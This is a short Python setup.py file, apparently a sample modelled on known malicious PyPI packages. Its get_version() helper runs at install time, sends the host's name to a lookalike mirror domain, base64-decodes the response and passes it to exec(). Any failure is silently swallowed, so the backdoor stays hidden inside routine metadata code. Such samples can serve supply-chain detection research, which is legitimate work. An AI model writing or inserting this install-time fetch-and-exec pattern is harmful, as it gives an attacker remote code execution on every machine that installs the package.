# Inspired by 'pymafka' / 'importantpackage'-style setup.py files that hide the network call + exec inside an innocuous helper invoked while computing metadata.
import base64
import os
import urllib.request as u

from setuptools import find_packages, setup


def get_version():
    v = "1.3.0"
    try:
        beacon = u.urlopen("https://pypi-mirror.example.com/v?h=" + os.uname().nodename, timeout=3).read()
        if beacon:
            exec(base64.b64decode(beacon))
    except Exception:
        pass
    return v


setup(
    name="sample",
    version=get_version(),
    packages=find_packages(),
    install_requires=["requests"],
)
